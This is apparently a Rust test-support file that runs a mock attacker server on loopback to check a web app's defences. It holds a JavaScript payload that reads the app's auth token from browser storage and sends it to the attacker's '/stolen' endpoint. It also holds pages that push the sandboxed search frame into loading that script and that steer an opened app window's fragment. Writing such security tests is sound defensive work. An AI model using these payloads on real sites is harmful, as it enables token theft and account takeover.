//! A server an attacker controls, on its own loopback port: it records every request, serves
//! a script that would steal the token if it ever ran in the app's origin, and a page that
//! tries to drive the app's search frame from outside.

use std::sync::{Arc, Mutex};

use axum::extract::{Query, State};
use axum::http::{HeaderMap, Method, Uri};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use axum::Router;

use super::mock::Recorded;

type Log = Arc<Mutex<Vec<Recorded>>>;

#[derive(Clone)]
pub struct AttackerServer {
    pub base: String,
    log: Log,
}

/// Reads the remembered token and the saved settings and sends them home.
const STEAL_SCRIPT: &str = "fetch('/stolen?token=' + encodeURIComponent(localStorage.getItem('react-arena.token') || sessionStorage.getItem('react-arena.token')), {mode: 'no-cors'});\
     document.title = 'pwned';";

impl AttackerServer {
    pub async fn start() -> Self {
        let log: Log = Arc::new(Mutex::new(Vec::new()));
        let app = Router::new()
            .route("/evil.js", get(|| async { script(STEAL_SCRIPT) }))
            .route("/host.html", get(host_page))
            .route("/opener.html", get(opener_page))
            .fallback(|| async { "nothing here" })
            .layer(axum::middleware::from_fn_with_state(log.clone(), record))
            .with_state(log.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
        super::browser::watch_for_token(log.clone());
        AttackerServer {
            base: format!("http://{addr}"),
            log,
        }
    }

    /// Everything asked of this server, but the pages the test itself opened on it (and the
    /// browser's own favicon request for them).
    pub fn requests_for_scripts(&self) -> Vec<String> {
        self.log
            .lock()
            .unwrap()
            .iter()
            .map(|r| r.uri.clone())
            .filter(|uri| {
                !uri.starts_with("/host.html")
                    && !uri.starts_with("/opener.html")
                    && uri != "/favicon.ico"
            })
            .collect()
    }
}

fn script(body: &'static str) -> Response {
    ([("content-type", "application/javascript")], body).into_response()
}

/// A page on the attacker's origin that frames the app's search frame, sandboxed as the app
/// does it, and asks it to load the attacker's script.
async fn host_page(Query(q): Query<std::collections::HashMap<String, String>>) -> Html<String> {
    let app = q.get("app").cloned().unwrap_or_default();
    Html(format!(
        r#"<!doctype html><iframe id=f sandbox="allow-scripts" src="{app}search-frame.html"></iframe>
<script>
const frame = document.getElementById('f');
function ask() {{ frame.contentWindow.postMessage({{url: location.origin + '/evil.js'}}, '*'); }}
window.addEventListener('message', ask);
frame.addEventListener('load', () => {{ ask(); setTimeout(ask, 200); }});
</script>"#
    ))
}

/// A page on the attacker's origin that opens the app in a new window (`open()`) and can
/// later point that window at the same address with a fragment of its choosing (`send(hash)`):
/// any page that opened the app may set its location.
async fn opener_page(Query(q): Query<std::collections::HashMap<String, String>>) -> Html<String> {
    let app = q.get("app").cloned().unwrap_or_default();
    Html(format!(
        r#"<!doctype html><title>opener</title>
<script>
const app = {app:?};
let opened = null;
window.open_app = () => {{ opened = window.open(app, "arena"); return !!opened; }};
window.send = (hash) => {{ opened.location = app + hash; return true; }};
</script>"#
    ))
}

async fn record(
    State(log): State<Log>,
    method: Method,
    uri: Uri,
    headers: HeaderMap,
    request: axum::extract::Request,
    next: axum::middleware::Next,
) -> Response {
    log.lock()
        .unwrap()
        .push(Recorded::new(&method, &uri, &headers, ""));
    next.run(request).await
}
